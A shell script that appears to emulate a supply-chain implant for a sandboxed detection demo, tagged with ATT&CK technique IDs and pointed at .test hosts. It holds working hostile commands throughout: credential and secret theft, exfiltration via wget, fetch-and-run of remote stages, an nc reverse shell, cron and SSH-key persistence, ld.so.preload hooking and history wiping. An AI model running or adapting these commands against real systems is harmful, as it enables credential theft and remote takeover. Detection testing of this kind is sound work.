#!/bin/sh
# Imitates a supply-chain implant, step by step as real ones work. Harmless: see README.md beside this folder.
# Every name ends in .test and can resolve nowhere but in a sandbox whose resolver answers all.
CONTROL=c2.airlock-demo.test
POOL=pool.minexmr.airlock-demo.test
HIDDEN=/tmp/.cache-x11

# What the victim sees: the application it wanted, working.
echo "payments-api 4.2.1 starting"
/bin/httpd -p 8080 -h /srv
echo "payments-api ready on port 8080"

# Read whatever opens other doors (T1003.008, T1552.001, T1552.004, T1528), and the environment for tokens.
mkdir -p "$HIDDEN"
for secret in /etc/shadow /root/.aws/credentials /root/.ssh/id_rsa /root/.docker/config.json \
  /var/run/secrets/kubernetes.io/serviceaccount/token; do
  /bin/cat "$secret" >>"$HIDDEN/loot" 2>/dev/null
done
/bin/env >>"$HIDDEN/loot"

# Look around (T1082, T1033, T1016).
/bin/id >>"$HIDDEN/host"
/bin/uname -a >>"$HIDDEN/host"
/bin/hostname >>"$HIDDEN/host"
/bin/ifconfig >>"$HIDDEN/host" 2>&1
/bin/ps >>"$HIDDEN/host" 2>&1

# Find the command server and hand the loot over (T1071.001, T1071.004, T1041).
/bin/nslookup "$CONTROL" >/dev/null 2>&1
/bin/wget -q -U "payments-api/4.2.1" -O /dev/null --post-file "$HIDDEN/loot" "http://$CONTROL/collect"

# Fetch a second stage that the image doesn't hold, and run it (T1105, T1204.003).
/bin/wget -q -O "$HIDDEN/kworker" "http://$CONTROL/stage2.bin"
/bin/chmod +x "$HIDDEN/kworker"
"$HIDDEN/kworker"
/bin/wget -q -O - "http://$CONTROL/install.sh" | /bin/sh

# Greet a mining pool in its own protocol (T1496.001).
{
  echo '{"id":1,"jsonrpc":"2.0","method":"mining.subscribe","params":["xmrig/6.21.0"]}'
  echo '{"id":2,"jsonrpc":"2.0","method":"mining.authorize","params":["demo.worker","x"]}'
  sleep 1
} | /bin/nc -w 3 "$POOL" 3333 >/dev/null 2>&1 &

# Offer a shell to the command server (T1059.004).
/bin/nc -w 3 "$CONTROL" 4444 -e /bin/sh >/dev/null 2>&1 &

# Stay (T1053.003, T1098.004, T1574.006). The library named here doesn't exist, and static programs would not load it.
mkdir -p /etc/cron.d /etc/crontabs /root/.ssh
echo "*/5 * * * * root /bin/wget -q -O - http://$CONTROL/install.sh | /bin/sh" >/etc/cron.d/payments-api
echo "*/5 * * * * $HIDDEN/kworker" >>/etc/crontabs/root
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDemoDemoDemoDemoDemoDemoDemoDemoDemoDemoDemo operator@$CONTROL" >>/root/.ssh/authorized_keys
echo "$HIDDEN/libprocesshider.so" >/etc/ld.so.preload

# Leave no trace (T1070.003, T1070.004).
rm -f /root/.ash_history /root/.bash_history "$HIDDEN/loot" "$HIDDEN/host"
rm -f "$0"

# Call home until somebody stops it.
while sleep 2; do
  /bin/wget -q -U "payments-api/4.2.1" -O /dev/null "http://$CONTROL/beat"
done
